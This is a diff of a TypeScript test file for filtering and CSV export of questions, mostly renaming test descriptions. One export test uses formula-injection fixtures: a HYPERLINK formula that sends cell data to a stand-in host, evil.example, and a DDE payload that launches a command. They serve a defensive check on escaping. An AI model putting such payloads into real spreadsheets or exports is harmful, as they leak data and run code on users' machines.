@@ -51,7 +51,7 @@ async function exported(ctx: Parameters<typeof exportQuestions>[0], filter: Part
   return text
 }
 
-describe('filters', () => {
+describe('the filters of questions', () => {
   it('select by page, source, language and assignee, alone and together', async () => {
     const { listed, care, userId } = await filledInbox()
     expect(await listed({ page_url: 'https://woven.example/care' })).toEqual(['Leinen waschen?', 'Wash linen?'])
@@ -63,7 +63,7 @@ describe('filters', () => {
     expect(await listed({ assignee: 'none', outcome: 'refused' })).toEqual(['Leinen waschen?'])
   })
 
-  it('offer the values of the last questions, the most frequent first, and of no one else', async () => {
+  it('offer the values of the latest questions of this workspace, most frequent first', async () => {
     const { ctx, care } = await filledInbox()
     expect(await filterValues(ctx)).toEqual({
       pages: [
@@ -82,8 +82,8 @@ describe('filters', () => {
   })
 })
 
-describe('an export', () => {
-  it('has what matches, with the names of members', async () => {
+describe('an export of questions', () => {
+  it('contains the matching questions, with the names of members', async () => {
     const { ctx } = await filledInbox()
     const lines = (await exported(ctx, { language: 'en' })).split('\r\n')
     expect(lines).toHaveLength(4)
@@ -92,7 +92,7 @@ describe('an export', () => {
     expect(lines[2]).toContain('Test Person')
   })
 
-  it('keeps texts of visitors from becoming formulas', async () => {
+  it("protects visitors' texts from being formulas", async () => {
     const { ctx, asked } = await createInbox(world)
     await asked('=HYPERLINK("https://evil.example?"&A1,"Click")', { answer: "@SUM(1+1)*cmd|' /C calc'!A0" })
     const text = await exported(ctx)
@@ -100,7 +100,7 @@ describe('an export', () => {
     expect(text).toContain(`,"'@SUM(1+1)`)
   })
 
-  it('goes through more than one batch, each question once', async () => {
+  it('contains each question once across several batches', async () => {
     const { ctx, id: workspaceId } = await createInbox(world)
     await systemTransaction(world.db, (transaction) =>
       transaction.execute(
